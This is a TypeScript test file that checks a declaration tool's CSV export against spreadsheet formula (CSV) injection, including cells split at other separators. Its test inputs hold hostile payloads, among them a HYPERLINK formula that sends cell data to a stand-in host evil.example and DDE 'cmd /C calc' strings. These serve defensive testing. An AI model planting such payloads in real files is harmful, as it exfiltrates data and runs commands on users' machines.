import { describe, expect, it } from 'vitest';
import { csvHeaders, toCsv, type Declaration } from '@declaration';
import { ENGLISH } from '@declaration/i18n/index.ts';
import { renderExport } from '../../../../static/disclosure/src/export-files.ts';
import { loadDeclaration } from '../load.ts';
import { parseCsv, spreadsheetCells } from './readers.ts';

const techtime = loadDeclaration('examples/techtime-user-management.yaml');

function firstRow(csv: string): Record<string, string> {
  const [header, row] = parseCsv(csv);
  return Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
}

describe('CSV cells that a spreadsheet would run as a formula (OWASP "CSV Injection")', () => {
  it.each([
    ['=HYPERLINK', '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'],
    ['@SUM', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+', '+1+1'],
    ['-', '-1+1'],
    ['a space before =', ' =1+1'],
    ['a full-width ＝', '＝1+1'],
  ])(
    '%s: shown as text, prefixed with a single quote, in the export and the download',
    (_, text) => {
      const declaration: Declaration = structuredClone(techtime);
      declaration.dataCategories[0]!.description = text;
      declaration.dataCategories[0]!.name = text;
      for (const csv of [toCsv(declaration), renderExport('csv', declaration, ENGLISH)]) {
        const row = firstRow(csv);
        expect(row.Category).toBe(`'${text}`);
        expect(row.Description).toBe(`'${text}`);
        expect(csv).toContain(`"'${text.replace(/"/g, '""')}"`);
        // The other cells, which start no formula, are left as they are (quoted, as every cell).
        expect(row.Personal).toBe('Yes');
        expect(row['Data subjects']).toBe('End users; Administrators');
        // TechTime states no sensitivity for this data: the words say so, unprefixed.
        expect(row.Sensitive).toBe('Not stated');
        expect(csv).toContain('"Yes","Not stated"');
      }
    },
  );

  it.each([
    ['a tab before =', '\t=1+1', "'\t'=1+1"],
    ['a carriage return before =', '\r=1+1', "'\r'=1+1"],
  ])(
    '%s: prefixed, and so is the = after it, where a spreadsheet splitting there starts a cell',
    (_, text, shown) => {
      const declaration: Declaration = structuredClone(techtime);
      declaration.dataCategories[0]!.description = text;
      expect(firstRow(toCsv(declaration)).Description).toBe(shown);
    },
  );
});

describe('CSV read by a spreadsheet that splits at another separator', () => {
  // A German, French or Dutch spreadsheet splits at `;`; Excel and Python's csv module honour
  // a quote only at the start of a cell, so they split inside a quoted cell too.
  const declaration: Declaration = structuredClone(techtime);
  declaration.dataCategories[0]!.name = "Logs;=cmd|' /C calc'!A0";
  declaration.dataCategories[0]!.examples = ['name;@SUM(1+1)', 'a\t+1', 'b|-2+3', 'c\n=1'];
  const csv = toCsv(declaration);

  it.each([',', ';', '\t', '|'])('split at %j, no cell starts a formula', (separator) => {
    for (const quotes of ['anywhere', 'at-cell-start'] as const) {
      const formulas = spreadsheetCells(csv, separator, quotes).filter((cell) =>
        /^[\s\p{Cf}]*[=+\-@]/u.test(cell),
      );
      expect({ quotes, formulas }).toEqual({ quotes, formulas: [] });
    }
  });

  it('quotes every cell, and shows the text with a quote where a new cell would start', () => {
    expect(csv.split('\r\n')[0]).toBe(
      csvHeaders()
        .map((column) => `"${column}"`)
        .join(','),
    );
    const row = firstRow(csv);
    expect(row.Category).toBe("Logs;'=cmd|' /C calc'!A0");
    expect(row.Examples).toBe("name;'@SUM(1+1); a\t'+1; b|'-2+3; c\n'=1");
  });
});
